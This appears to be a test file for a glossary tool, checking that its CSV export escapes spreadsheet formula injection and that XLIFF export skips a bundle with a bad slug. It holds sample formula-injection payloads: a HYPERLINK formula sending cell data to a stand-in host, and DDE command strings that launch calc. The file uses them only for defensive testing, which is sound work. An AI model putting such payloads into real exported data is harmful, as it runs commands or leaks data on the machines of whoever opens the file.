// Exchange hardening (issue 10): CSV exports cannot smuggle spreadsheet
// formulas, and one bundle with a bad slug no longer aborts an XLIFF export.
import {afterEach, describe, expect, it} from 'vitest'
import {serializeBundle} from '../src/bundle/store.ts'
import {exportCsv, parseCsv} from '../src/exchange/index.ts'
import {xliffExportProject} from '../src/exchange/run.ts'
import type {Concept} from '../src/glossary/types.ts'
import {fixtureBundle} from './fixtures/exchange/helpers.ts'
import {tempProject, type TempProject} from './helpers/project.ts'

let temp: TempProject | undefined
afterEach(async () => {
  await temp?.cleanup()
  temp = undefined
})

describe('CSV glossary export (OWASP CSV injection)', () => {
  const hostile = ['=HYPERLINK("http://x.test/?"&A1,"clic")', '@SUM(1+1)*cmd|x', '+cmd|\' /C calc\'!A0', "-2+3+cmd|' /C calc'!A0", '\t=1+1']
  const concept: Concept = {
    id: 'trap',
    note: '=1+1',
    terms: {fr: hostile.map((text, index) => ({text: `${text} ${index}`.trim(), status: 'admitted' as const}))}
  }

  it('writes no cell that a spreadsheet would run as a formula', () => {
    const csv = exportCsv({concepts: [concept]})
    const cells = csv.split('\n').slice(1).filter(Boolean).flatMap((line) => line.split(',').map((cell) => cell.replace(/^"/, '')))
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    expect(csv).toContain("'=HYPERLINK(")
  })

  it('reads its own export back to the same terms', () => {
    const parsed = parseCsv(exportCsv({concepts: [concept]}), 'terms.csv')
    expect(parsed.concepts[0]?.terms.fr?.map((term) => term.text)).toEqual(concept.terms.fr?.map((term) => term.text))
    expect(parsed.concepts[0]?.note).toBe('=1+1')
  })
})

describe('one slug rule', () => {
  it('leaves a bundle whose slug breaks the rule out of an XLIFF export, and exports the others', async () => {
    const good = await fixtureBundle()
    const bad = {...good, article: 'Mon article.v2'}
    temp = await tempProject({
      [`locales/en/${good.article}.json`]: serializeBundle(good),
      [`locales/en/${bad.article}.json`]: serializeBundle(bad)
    })
    const result = await xliffExportProject(temp.project, {locale: 'en'})
    expect(result.articles).toEqual([good.article])
    expect(result.failures.map((failure) => failure.code)).toEqual(['E_SLUG'])
  })
})
